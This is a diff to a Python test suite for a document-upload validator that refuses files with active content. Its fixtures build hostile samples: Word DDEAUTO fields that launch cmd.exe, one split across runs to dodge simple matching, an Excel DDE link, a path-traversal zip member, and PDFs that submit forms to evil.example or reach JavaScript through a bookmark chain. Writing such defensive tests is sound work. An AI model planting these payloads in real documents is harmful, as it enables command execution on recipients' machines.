@@ -44,6 +44,33 @@ def xlsx() -> bytes:
     return out.getvalue()
 
 
+def platform_docx() -> bytes:
+    """A Word document as the platform writes its own (Decree 30 layout, a PAGE field)."""
+    from tinhso.core.documents import new_document
+
+    document = new_document()
+    document.add_paragraph("Phiếu tiếp nhận")
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def docx_body(body: str) -> bytes:
+    """A python-docx document whose body is ``body`` (WordprocessingML)."""
+    source = zipfile.ZipFile(io.BytesIO(docx()))
+    xml = source.read("word/document.xml").decode()
+    start, end = xml.index("<w:body>") + len("<w:body>"), xml.index("<w:sectPr")
+    return with_members(docx(), {"word/document.xml": xml[:start] + body + xml[end:]})
+
+
+def run(text: str, tag: str = "w:t") -> str:
+    return f'<w:r><{tag} xml:space="preserve">{text}</{tag}></w:r>'
+
+
+def field_char(kind: str) -> str:
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+
 def png() -> bytes:
     import struct
     import zlib
@@ -163,6 +190,9 @@ def refused(data: bytes, name: str = "tep.bin") -> DomainError:
         ("image", "media/image1.png", None), ("hyperlink", "https://dichvucong.gov.vn/", "External"))}), DOCX),
     (lambda: with_members(xlsx(), {"xl/printerSettings/printerSettings1.bin": b"\x00" * 64}), XLSX),
     (lambda: with_members(docx(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()}), DOCX),  # a chart
+    (platform_docx, DOCX),
+    (lambda: docx_body("<w:p>" + field_char("begin") + run(" PAGE ", "w:instrText") + field_char("separate")
+                       + run("1") + field_char("end") + "</w:p>"), DOCX),
 ])
 def test_plain_documents_are_accepted_with_the_type_of_their_content(make: Callable[[], bytes],
                                                                      expected: str) -> None:
@@ -205,6 +235,13 @@ def test_plain_documents_are_accepted_with_the_type_of_their_content(make: Calla
     (lambda: with_members(xlsx(), {"xl/externalLinks/externalLink1.xml":
                                    '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
      "active_content", "externalLink1.xml"),
+    # DDE fields run a command when Word updates them, whole or split over runs and paragraphs.
+    (lambda: docx_body('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; ">'
+                       + run("x") + "</w:fldSimple></w:p>"), "active_content", "word/document.xml"),
+    (lambda: docx_body("<w:p>" + field_char("begin") + run(" D", "w:instrText") + "</w:p><w:p>"
+                       + run("DEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", "w:instrText")
+                       + field_char("separate") + run("x") + field_char("end") + "</w:p>"),
+     "active_content", "word/document.xml"),
     # Encrypted members, and a zip that unpacks to far more than a document does.
     (lambda: encrypted(docx()), "encrypted", "mật khẩu"),
     (lambda: with_members(docx(), {"../../evil.xml": "<x/>"}), "active_content", "../../evil.xml"),
@@ -249,12 +286,26 @@ JS = "mã JavaScript"
     (lambda: raw_pdf(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                           "/A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>]"), JS),
     (lambda: raw_pdf(catalog="/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"), "gửi hoặc nhập dữ liệu"),
+    # A bookmark whose action chains (/Next) to JavaScript.
+    (lambda: raw_pdf(catalog="/Outlines 4 0 R", extra=(
+        "<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
+        "<< /Title (Muc 1) /Parent 4 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> >>",
+        "<< /S /JavaScript /JS 7 0 R >>", "<< /Length 12 >>\nstream\napp.alert(1)\nendstream")), JS),
 ])
+
 def test_pdfs_with_active_content_are_refused_with_the_reason(make: Callable[[], bytes], what: str) -> None:
     error = refused(make(), "to-khai.pdf")
     assert error.code == "active_content"
     assert error.message.startswith("Tệp PDF có ")
     assert what in error.message
+
+
+def test_a_pdf_with_more_objects_than_can_be_checked_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(uploads, "PDF_MAX_OBJECTS", 3)
+    error = refused(raw_pdf(page="/Annots [4 0 R 5 0 R]", extra=(
+        "<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] >>", "<< /Type /Annot /Subtype /Text /Rect [9 9 18 18] >>")))
+    assert error.code == "too_complex"
+    assert check(raw_pdf()).content_type == PDF  # three objects: within the limit
 
 
 def test_the_compressed_case_really_hides_the_names_from_a_byte_search() -> None:
